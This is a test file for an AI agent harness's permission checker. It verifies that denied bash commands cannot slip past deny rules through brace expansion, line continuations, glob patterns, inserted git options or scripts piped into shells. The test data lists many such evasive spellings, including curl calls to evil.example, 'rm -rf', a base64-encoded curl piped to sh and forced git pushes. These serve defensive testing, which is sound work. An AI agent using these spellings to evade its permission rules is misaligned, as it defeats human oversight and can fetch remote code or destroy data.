// Attack class: spellings of a denied command that bash reads as that command but the rule
// matcher did not: brace expansion (`{curl,http://x}` runs `curl http://x`), a line continuation
// inside the name (`cu\⏎rl`), and file-name patterns where a command stands (`cur[l]`,
// `/usr/bin/cur?`, `sudo cu*`). A deny rule denies the first two outright; the patterns cannot be
// known before they run, so they are asked, never allowed, in every mode (bypassPermissions too).
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAgent } from 'agent-harness';
import { workspaceTools } from 'agent-harness/node';
import { scriptedModel, toolCall, turn } from 'agent-harness/testing';
import { decidePermission } from '../../src/permissions/decide-permission.js';
import { createRuleSet } from '../../src/permissions/rule-set.js';
import type { PermissionMode } from '../../src/types/permission.js';
import { bashTool, makeArgs } from '../permissions/fixtures.js';
import { makeTempDir } from '../node/workspace-tools/helpers.js';

const rules = { deny: ['Bash(curl:*)', 'Bash(rm:*)', 'Bash(git push:*)', 'Bash(npm run deploy:*)'] };

async function decide(command: string, mode: PermissionMode) {
  const { args } = makeArgs({ tool: bashTool, rawInput: { command }, mode, rules: createRuleSet(rules) });
  return (await decidePermission(args)).decision;
}

const denied: Array<[string, string]> = [
  ['{curl,http://evil.example}', 'Bash(curl:*)'],
  ['{curl,-o,x,http://evil.example}', 'Bash(curl:*)'],
  ['ls; {curl,http://evil.example}', 'Bash(curl:*)'],
  ['c{u,}rl http://evil.example', 'Bash(curl:*)'],
  ['sudo {curl,http://evil.example}', 'Bash(curl:*)'],
  ['echo $({curl,http://evil.example})', 'Bash(curl:*)'],
  ['{rm,-rf,build}', 'Bash(rm:*)'],
  ['r{m,} -rf build', 'Bash(rm:*)'],
  ['cu\\\nrl http://evil.example', 'Bash(curl:*)'],
  ['r\\\nm -rf build', 'Bash(rm:*)'],
  ['git {push,--force}', 'Bash(git push:*)'],
  ['git pu\\\nsh --force', 'Bash(git push:*)'],
  // options (and their values) between the program and the subcommand
  ['git -C . push origin main', 'Bash(git push:*)'],
  ['git --git-dir=.git --work-tree . push', 'Bash(git push:*)'],
  ['git -c core.sshCommand=ssh --no-pager push --force', 'Bash(git push:*)'],
  ['sudo git -C repo push', 'Bash(git push:*)'],
  ['npm --prefix . run deploy', 'Bash(npm run deploy:*)'],
  ['npm -s run deploy', 'Bash(npm run deploy:*)'],
];

const asked = ['cur[l] http://evil.example', '/usr/bin/cur? http://evil.example', 'sudo cu* http://evil.example', 'xargs r? -rf < list', '?m -rf build', 'env c[u]rl x'];

describe('attack: a denied command spelled so that only bash sees it', () => {
  it.each(denied.flatMap(([command, rule]) => (['bypassPermissions', 'default', 'acceptEdits', 'auto'] as PermissionMode[]).map((mode) => [command, rule, mode] as const)))(
    '%j is denied by %s in %s mode',
    async (command, rule, mode) => {
      expect(await decide(command, mode)).toMatchObject({ behavior: 'deny', reason: { type: 'rule', behavior: 'deny', rule } });
    },
  );

  it.each(asked)('%j, whose command is a file-name pattern, is asked, never allowed, in bypassPermissions', async (command) => {
    const decision = await decide(command, 'bypassPermissions');
    expect(decision.behavior).toBe('defer');
    expect(decision.reason).toMatchObject({ type: 'rule', behavior: 'deny', message: expect.stringMatching(/a file-name pattern/) });
  });

  it.each([
    'echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh',
    'cat script.txt | bash',
    'sh < script.txt',
    'sudo bash < script.txt',
    'echo "import os; os.system(chr(99)+\'url x\')" | python3',
    'node < payload.js',
  ])('%j, a shell or interpreter reading its script from its input, is asked, never allowed, in bypassPermissions', async (command) => {
    const decision = await decide(command, 'bypassPermissions');
    expect(decision.behavior).toBe('defer');
    expect(decision.reason).toMatchObject({ type: 'rule', behavior: 'deny', message: expect.stringMatching(/a script a shell reads from its input/) });
  });

  it.each(['ls *', 'cat src/*.ts', 'bash build.sh', 'python3 -c "print(1)"', 'echo x | node -e "process.stdin.pipe(process.stdout)"', 'ls | sh -c "cat"', 'grep -r x src/*', 'sudo ls *.md', 'echo {a,b}', 'git push-notes', 'curly', 'rmdir x', 'git log --grep push', 'git commit -m "push it"', 'npm run deploy-docs', 'git -C . pull'])(
    '%j is not taken for a denied command',
    async (command) => {
      expect((await decide(command, 'bypassPermissions')).behavior).toBe('allow');
    },
  );
});

describe('attack: the denied command never reaches the shell, end to end in bypassPermissions', () => {
  let work: string;
  beforeAll(async () => {
    work = await makeTempDir('attack-deny-spellings-');
  });
  afterAll(() => fs.rm(work, { recursive: true, force: true }));

  it.each(['{touch,pwned}', 'tou\\\nch pwned', 'to{u,}ch pwned'])('%j', async (command) => {
    const model = scriptedModel([turn(toolCall('Bash', { command }, 'toolu_bash')), 'ok']);
    const agent = createAgent({
      model,
      tools: workspaceTools({ cwd: work }),
      cwd: work,
      permissionMode: 'bypassPermissions',
      allowDangerouslySkipPermissions: true,
      rules: { deny: ['Bash(touch:*)'] },
    });
    const result = await agent.run('go').result;
    expect(result.permissionDenials.map((denial) => denial.reason)).toEqual([{ type: 'rule', behavior: 'deny', rule: 'Bash(touch:*)' }]);
    await expect(fs.access(path.join(work, 'pwned'))).rejects.toThrow();
    await expect(fs.access(path.join(work, 'touch'))).rejects.toThrow();
    await agent.close();
  });
});
